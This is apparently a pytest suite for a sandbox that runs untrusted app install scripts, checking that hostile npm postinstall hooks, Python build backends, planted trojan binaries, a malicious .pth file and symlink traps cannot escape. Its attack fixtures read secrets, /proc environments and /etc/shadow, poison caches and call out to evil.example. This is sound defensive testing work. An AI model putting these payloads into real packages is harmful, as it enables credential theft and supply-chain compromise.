"""Install scripts that try what they must not: each writes what it found beside itself."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from pytest_dora.model.app import App
from pytest_dora.model.result import FindingOutcome
from pytest_dora.model.settings import Limits, SandboxMode, Settings
from pytest_dora.runtime.sandbox.select import self_test
from pytest_dora.runtime.sandbox.spec import Tier
from pytest_dora.runtime.session import AppSession, close_engines, open_session
from pytest_dora.runtime.stage import Stage, StageFailed

SECRET = "c4ller-s3cret"
ATTACK = """
import glob, json, os, socket, subprocess, sys, urllib.request

home, port, out = sys.argv[1:4]
found = {"ran": True, "uid": os.getuid()}


def attempt(name, action):
    try:
        found[name] = action() or "did it"
    except BaseException as error:
        found[name] = "refused: " + type(error).__name__


def read(path):
    with open(path) as file:
        return file.read()


def write(path):
    with open(path, "w") as file:
        file.write("poison")


def environments():
    return "".join(read(path) for path in glob.glob("/proc/[0-9]*/environ") if os.access(path, 4))


def through_proxy():
    proxy = {"https": os.environ["HTTPS_PROXY"]}
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxy))
    return str(opener.open("https://evil.example/steal", timeout=5).status)


def poison():
    names = [name for name in ("npm", "uv", "bun") if os.path.isdir("/dora-cache/" + name)]
    os.makedirs("/dora-cache/npm", exist_ok=True)
    write("/dora-cache/npm/poison")
    return str(names)


attempt("home", lambda: read(home + "/secret"))
attempt("home_listed", lambda: str(os.listdir(home)))
attempt("environment", lambda: str(dict(os.environ)))
attempt("environments", environments)
attempt("cache", poison)
attempt("host_port", lambda: socket.create_connection(("127.0.0.1", int(port)), 2) and "connected")
attempt("world", lambda: socket.create_connection(("1.1.1.1", 443), 2) and "connected")
attempt("proxy", through_proxy)
attempt("system", lambda: write("/usr/bin/dora-poison"))
attempt("shadow", lambda: read("/etc/shadow"))
attempt("remount", lambda: subprocess.check_call(["mount", "-t", "tmpfs", "none", "/mnt"]))
daemon = "import time; time.sleep(300)  # " + SECRET_MARK
nowhere = {"stdin": -3, "stdout": -3, "stderr": -3}  # a package manager waits for its pipes
subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True, **nowhere)
with open(out, "w") as file:
    json.dump(found, file)
"""


class Caller:
    """Whose machine it is: a home with a secret, a secret variable, a service on the loopback."""

    def __init__(self, home: Path, listener: socket.socket) -> None:
        self.home = home
        self.listener = listener
        self.port: int = listener.getsockname()[1]
        self.mark = f"left-behind-{os.getpid()}-{self.port}"

    def was_called(self) -> bool:
        self.listener.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            self.listener.accept()[0].close()
            return True
        return False

    def attack(self, out: str = "found.json") -> str:
        """Lines of Python that try everything, for a script of an app."""
        arguments = f"import sys; sys.argv[1:] = [{str(self.home)!r}, '{self.port}', {out!r}]"
        return f"SECRET_MARK = {self.mark!r}\n{arguments}\n{ATTACK}"


@pytest.fixture
def caller(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Caller]:
    home = tmp_path / "home"
    home.mkdir()
    (home / "secret").write_text(SECRET)
    home.chmod(0o755)
    monkeypatch.setenv("DORA_CALLERS_TOKEN", SECRET)
    monkeypatch.setenv("PIP_INDEX_URL", f"https://me:{SECRET}@pypi.org/simple")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield Caller(home, listener)


Opener = Callable[[dict[str, str]], AppSession]


@pytest.fixture
def open_app(tmp_path: Path, caller: Caller) -> Iterator[Opener]:
    if not self_test(Tier.BUBBLEWRAP).passed:
        pytest.skip("bubblewrap does not work on this machine")
    opened: list[AppSession] = []

    def open_it(files: dict[str, str]) -> AppSession:
        folder = tmp_path / "app"
        for name, text in files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(textwrap.dedent(text))
        settings = Settings(
            sandbox=SandboxMode.BUBBLEWRAP,
            work=tmp_path / "work",
            limits=Limits(install_seconds=40, build_seconds=30),
        )
        run_dir = tmp_path / "run"
        run_dir.mkdir(exist_ok=True)
        opened.append(open_session(App(app_id="hostile", path=folder), settings, run_dir))
        return opened[-1]

    yield open_it
    for session in opened:
        session.close()
    close_engines()


def left_behind(mark: str) -> list[str]:
    """Processes of this machine that carry a mark in their arguments."""
    found: list[str] = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            words = path.read_bytes().decode("utf-8", "replace")
            if mark in words:
                found.append(words)
    return found


def read_found(root: Path, name: str = "found.json") -> dict[str, Any]:
    answer: dict[str, Any] = json.loads((root / name).read_text())
    assert answer["ran"]
    return answer


def assert_nothing_got_through(found: dict[str, Any], caller: Caller) -> None:
    assert SECRET not in json.dumps(found)
    for name in ("home", "home_listed", "cache", "host_port", "world", "proxy", "system", "shadow",
                 "remount"):  # fmt: skip
        assert found[name].startswith("refused: "), (name, found[name])
    assert not caller.was_called()
    assert not Path("/usr/bin/dora-poison").exists()
    assert left_behind(caller.mark) == []
    if os.geteuid() == 0:
        assert found["uid"] != 0


def test_scripts_of_an_npm_package_reach_nothing(open_app: Opener, caller: Caller) -> None:
    counted = "echo once >> count.txt && python3 attack.py"
    scripts = {"postinstall": counted, "prepare": "python3 attack2.py"}
    manifest: dict[str, object] = {"name": "hostile", "version": "1.0.0", "scripts": scripts}
    manifest["dependencies"] = {"inner": "file:./inner"}
    inner = {"name": "inner", "version": "1.0.0", "scripts": {"install": "python3 attack.py"}}
    session = open_app(
        {
            "package.json": json.dumps(manifest),
            "attack.py": caller.attack(),
            "attack2.py": caller.attack("found2.json"),
            "inner/package.json": json.dumps(inner),
            "inner/attack.py": caller.attack("found-inner.json"),
        }
    )
    root = session.installed().root
    for name in ("found.json", "found2.json", "inner/found-inner.json"):
        assert_nothing_got_through(read_found(root, name), caller)
    assert (root / "count.txt").read_text() == "once\n"
    refused = [one for one in session.findings[Stage.INSTALLED] if one.probe == "build.network"]
    assert [one.outcome for one in refused] == [FindingOutcome.FAIL]
    assert "evil.example:443" in refused[0].message
    cache = session.engine.cache
    assert not [path for path in cache.rglob("*") if path.name == "poison"]


BACKEND = """
def get_requires_for_build_editable(settings=None):
    return []

def build_wheel(folder, settings=None, metadata=None):
    import zipfile
    name = "hostile-1.0-py3-none-any.whl"
    with zipfile.ZipFile(f"{folder}/{name}", "w") as wheel:
        info = "hostile-1.0.dist-info"
        wheel.writestr("hostile_module.py", "")
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\\nName: hostile\\nVersion: 1.0\\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name

build_editable = build_wheel
"""


def test_a_build_backend_of_a_python_project_reaches_nothing(
    open_app: Opener, caller: Caller
) -> None:
    attack = f"open('/dora-out/attack.py', 'w').write({caller.attack('/dora-out/found.json')!r})"
    run = "import subprocess, sys; subprocess.run([sys.executable, '/dora-out/attack.py'])"
    session = open_app(
        {
            "pyproject.toml": """\
                [project]
                name = "hostile"
                version = "1.0"
                [build-system]
                requires = []
                build-backend = "backend"
                backend-path = ["."]
                """,
            "backend.py": f"{attack}\n{run}\n{BACKEND}",
            "main.py": "print('hello')\n",
        }
    )
    view = session.installed()
    assert_nothing_got_through(read_found(view.out), caller)
    assert not [path for path in session.engine.cache.rglob("*") if path.name == "poison"]


def test_a_later_fetch_runs_no_program_that_an_earlier_package_left(
    open_app: Opener, caller: Caller
) -> None:
    """The first package's script leaves an ``npm`` and a ``uv`` where the next ones are run."""
    plant = """\
        import os
        attack = %r
        for folder in ("client/node_modules/.bin", "server/.venv/bin", "node_modules/.bin", ".venv/bin"):
            os.makedirs(folder, exist_ok=True)
            for name in ("npm", "uv", "node", "python", "python3", "git"):
                with open(f"{folder}/{name}", "w") as program:
                    program.write("#!/usr/bin/python3 -S\\n" + attack)
                os.chmod(f"{folder}/{name}", 0o755)
        packages = "server/.venv/lib/python3.11/site-packages"
        os.makedirs(packages, exist_ok=True)
        with open(packages + "/evil.pth", "w") as evil:
            evil.write("import os; os.path.isdir('/dora-cache') and open('/dora-cache/poison', 'w')\\n")
        """
    attack = """\
import os, shutil, sys
if os.path.isdir("/dora-cache"):
    open("/dora-cache/poison", "w").close()
others = ":".join(one for one in os.environ["PATH"].split(":") if not one.startswith("/app"))
program = shutil.which(os.path.basename(sys.argv[0]), path=others)
os.execv(program, [program, *sys.argv[1:]])
"""
    scripts = {"postinstall": "/usr/bin/python3 plant.py"}
    session = open_app(
        {
            "package.json": json.dumps({"name": "a", "version": "1.0.0", "scripts": scripts}),
            "plant.py": textwrap.dedent(plant) % attack,
            "client/package.json": json.dumps({"name": "b", "version": "1.0.0"}),
            "server/pyproject.toml": "[project]\nname = 'c'\nversion = '1'\n",
            "server/requirements.txt": "\n",
            "server/main.py": "print('hello')\n",
        }
    )
    assert len(session.plan.packages) == 3
    assert (session.installed().root / "client/node_modules/.bin/npm").exists()
    assert not [path for path in session.engine.cache.rglob("*") if path.name == "poison"]


def test_links_that_a_script_leaves_lead_our_own_hand_nowhere(
    open_app: Opener, caller: Caller, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "file").write_text("untouched")
    plant = f"""\
        import os, shutil
        shutil.rmtree(os.path.expanduser("~/tmp"), ignore_errors=True)
        for name in ("~/tmp", "/dora-out/no-wheels.txt", "dist", "node_modules"):
            name = os.path.expanduser(name)
            if not os.path.lexists(name):
                os.symlink({str(victim)!r} if "." not in name[-5:] else {str(victim / "file")!r}, name)
        """
    scripts = {"postinstall": "python3 plant.py", "build": "true"}
    session = open_app(
        {
            "package.json": json.dumps({"name": "a", "version": "1.0.0", "scripts": scripts}),
            "plant.py": plant,
        }
    )
    before = (victim.stat().st_uid, victim.stat().st_mode, (victim / "file").stat().st_uid)
    view = session.installed()
    home = view.home / "tmp"
    assert home.is_symlink(), "the script has not done its work"
    assert view.run(["sh", "-c", "touch $HOME/tmp/usable"], timeout=20, name="use").ok
    session.built()
    session.close()
    assert (victim.stat().st_uid, victim.stat().st_mode, (victim / "file").stat().st_uid) == before
    assert (victim / "file").read_text() == "untouched"
    assert [path.name for path in victim.iterdir()] == ["file"]


def test_an_install_that_only_fails_because_of_a_refused_host_says_so(open_app: Opener) -> None:
    scripts = {"postinstall": "curl -fsS https://evil.example/tool.tgz -o tool.tgz"}
    session = open_app(
        {"package.json": json.dumps({"name": "a", "version": "1.0.0", "scripts": scripts})}
    )
    with pytest.raises(StageFailed):
        session.installed()
    refused = [one for one in session.findings[Stage.INSTALLED] if one.probe == "build.network"]
    assert refused
    assert "evil.example:443" in refused[0].message
    assert "--dora-allow-host" in str(refused[0].remediation)
